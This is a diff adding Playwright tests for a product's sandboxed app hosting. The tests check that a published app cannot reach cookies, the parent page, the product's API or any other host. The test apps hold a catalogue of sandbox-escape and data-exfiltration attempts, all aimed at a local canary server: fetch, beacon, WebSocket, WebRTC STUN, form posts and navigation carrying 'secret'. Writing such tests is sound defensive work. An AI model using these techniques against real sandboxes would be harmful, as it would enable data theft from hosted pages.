@@ -1,0 +1,182 @@
+import { createSocket } from "node:dgram";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { appBench, type MadeApp } from "./apps-people";
+import { expect, expectAccessible, test } from "./fixtures";
+
+// Each opens dev servers and builds in their sandboxes, several to a test.
+test.describe.configure({ timeout: 180_000 });
+
+/** A host that no app may reach, by TCP and UDP, which counts whoever does. */
+async function canary() {
+  const hits: string[] = [];
+  const server = createServer((request, response) => {
+    hits.push(`${request.method} ${request.url}`);
+    response.setHeader("access-control-allow-origin", "*");
+    response.end("reached");
+  });
+  server.on("upgrade", (request, socket) => {
+    hits.push(`UPGRADE ${request.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  const udp = createSocket("udp4");
+  udp.on("message", () => hits.push("UDP"));
+  await new Promise<void>((resolve) => udp.bind(port, "127.0.0.1", resolve));
+  return {
+    hits,
+    port,
+    close: () => {
+      server.closeAllConnections();
+      server.close();
+      udp.close();
+    },
+  };
+}
+
+/** Opens a peer connection whose first packets go to the canary, and waits until they would have been sent. */
+const peer = (port: number) => `
+    const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
+    pc.createDataChannel("rows");
+    await pc.setLocalDescription(await pc.createOffer());
+    await new Promise((resolve) => { pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && resolve(); setTimeout(resolve, 2000); });`;
+
+/** An app that tries to get out by every way there is, and says what came of it. */
+const waysOut = (port: number) => `<!doctype html>
+<html><head><title>Out</title><link rel="dns-prefetch" href="//127.0.0.1:${port}"><link rel="preconnect" href="http://127.0.0.1:${port}">
+<link rel="prefetch" href="http://127.0.0.1:${port}/prefetch"><link rel="stylesheet" href="http://127.0.0.1:${port}/style.css"></head>
+<body><main><h1>Out</h1><ul id="said"></ul></main>
+<script>
+const OUT = "http://127.0.0.1:${port}";
+const said = document.getElementById("said");
+const say = (what, outcome) => { const li = document.createElement("li"); li.textContent = what + ": " + outcome; said.append(li); };
+const attempt = async (what, work) => { try { say(what, "got " + await work()); } catch (error) { say(what, "refused"); } };
+(async () => {
+  await attempt("cookie", () => document.cookie || Promise.reject());
+  await attempt("parent", () => parent.document.title);
+  await attempt("api", async () => { const r = await fetch(new URL("/api/auth/me", location.href), { credentials: "include" }); return r.status; });
+  await attempt("fetch", async () => (await fetch(OUT + "/fetch?rows")).text());
+  await attempt("no-cors", async () => (await fetch(OUT + "/nocors", { mode: "no-cors" })).type);
+  await attempt("xhr", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", OUT + "/xhr"); x.onload = () => ok(1); x.onerror = no; x.send(); }));
+  await attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok(1); i.onerror = no; i.src = OUT + "/image.png"; }));
+  await attempt("script", () => import(OUT + "/script.js"));
+  await attempt("socket", () => new Promise((ok, no) => { const s = new WebSocket("ws://127.0.0.1:${port}/socket"); s.onopen = () => ok(1); s.onerror = no; }));
+  await attempt("beacon", () => { navigator.sendBeacon(OUT + "/beacon", "rows"); return Promise.reject(); });
+  await attempt("frame", () => new Promise((ok, no) => { const f = document.createElement("iframe"); f.src = OUT + "/frame"; f.onload = () => { try { f.contentWindow.location.href; no(); } catch { no(); } }; document.body.append(f); setTimeout(no, 500); }));
+  await attempt("popup", () => { const w = window.open(OUT + "/popup"); return w ? "window" : Promise.reject(); });
+  await attempt("top", () => { top.location = OUT + "/top"; return Promise.reject(); });
+  await attempt("peer", async () => {${peer(port)}
+    return Promise.reject();
+  });
+  say("done", "here");
+  document.title = "Done";
+})();
+</script></body></html>`;
+
+/** The last ways out, which end the page that takes them. */
+const away = (port: number) => `<!doctype html><html><body><main><h1>Away</h1><button id="go" type="button">Go</button>
+<form action="http://127.0.0.1:${port}/form" method="post"><input name="rows" value="secret"><button>Send</button></form></main>
+<script>document.getElementById("go").onclick = () => { location.href = "http://127.0.0.1:${port}/navigate?rows=secret"; };</script></body></html>`;
+
+async function publish(request: import("@playwright/test").APIRequestContext, root: string, { id }: MadeApp) {
+  const answer = await request.post(`${root}/${id}/publish`);
+  expect(answer.status(), await answer.text()).toBe(200);
+}
+
+test.describe("an app that tries to get out", () => {
+  test.use({ isLoud: true });
+  test("a page that is no app reaches the host by a peer connection, which only the answer's headers keep from apps", async ({
+    page,
+  }) => {
+    const out = await canary();
+    const site = createServer((_, response) => {
+      response.setHeader("content-type", "text/html");
+      response.end(`<!doctype html><title>Site</title><script type="module">${peer(out.port)}</script>`);
+    });
+    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
+    try {
+      await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
+      await expect.poll(() => out.hits).toContain("UDP");
+    } finally {
+      site.close();
+      out.close();
+    }
+  });
+
+  test("an app reaches neither cookies, nor its page, nor the interface, nor any other host (T92)", async ({
+    page,
+    person,
+  }) => {
+    const out = await canary();
+    try {
+      const bench = await appBench(page.request);
+      const app = await bench.make("Out", { access: "workspace" });
+      await bench.write(app, "index.html", waysOut(out.port));
+      await bench.commit(app, "Out");
+      await publish(page.request, bench.root, app);
+      await page.goto(`/w/${person.slug}/apps/${app.slug}`);
+      const frame = page.frameLocator("iframe.app-frame");
+      await expect(frame.getByText("done: here")).toBeVisible({ timeout: 30_000 });
+      const said = await frame.locator("#said li").allTextContents();
+      expect(said.filter((line) => !line.endsWith("refused"))).toEqual(["done: here"]);
+      expect(page.url()).toContain(`/w/${person.slug}/apps/${app.slug}`);
+
+      await bench.write(app, "index.html", away(out.port));
+      await bench.commit(app, "Away");
+      await publish(page.request, bench.root, app);
+      for (const [button, directive] of [
+        ["Send", "form-action"],
+        ["Go", "frame-src"],
+      ] as const) {
+        await page.reload();
+        await expect(frame.getByRole("button", { name: button })).toBeVisible();
+        const refused = page.waitForEvent("console", (message) => message.text().includes(`"${directive} `));
+        await frame.getByRole("button", { name: button }).click();
+        await refused;
+      }
+      expect(out.hits).toEqual([]);
+    } finally {
+      out.close();
+    }
+  });
+});
+
+test("an app is opened in the product, shared by a link and seen by a stranger", async ({ page, person, browser }) => {
+  const bench = await appBench(page.request);
+  const app = await bench.make("Orders", { access: "workspace" });
+  await page.goto(`/w/${person.slug}/apps/${app.slug}`);
+  await expect(page.getByRole("heading", { name: "This app is not published yet" })).toBeVisible();
+  await expectAccessible(page);
+  await publish(page.request, bench.root, app);
+  // The event stream tells it.
+  const shown = page.frameLocator("iframe.app-frame").getByRole("heading", { name: "Orders" });
+  await expect(shown).toBeVisible();
+  await expectAccessible(page);
+  await page.screenshot({ path: "test-results/apps-view-light.png" });
+
+  await page.getByRole("button", { name: "Share" }).click();
+  const dialog = page.getByRole("dialog", { name: "Share Orders" });
+  await expect(dialog).toBeVisible();
+  const { token } = (
+    await (await page.request.put(`${bench.root}/${app.id}/share`, { data: { enabled: true } })).json()
+  ).data;
+  const context = await browser.newContext();
+  const visitor = await context.newPage();
+  await visitor.goto(`/share/${token}`);
+  await expect(visitor.frameLocator("iframe.app-frame").getByRole("heading", { name: "Orders" })).toBeVisible();
+  await expectAccessible(visitor);
+  await visitor.screenshot({ path: "test-results/apps-share-light.png" });
+  await context.close();
+
+  // As a link preview reads it.
+  const head = await (await page.request.get(`/share/${token}`, { headers: { "user-agent": "Slackbot 1.0" } })).text();
+  const tagOf = (name: string) =>
+    new RegExp(`<meta (?:property|name)="${name}" content="([^"]*)"`).exec(head)?.[1] ?? null;
+  expect([tagOf("og:title"), tagOf("twitter:card"), tagOf("og:image"), tagOf("robots")]).toEqual([
+    "Orders",
+    "summary",
+    null,
+    "noindex, nofollow",
+  ]);
+});
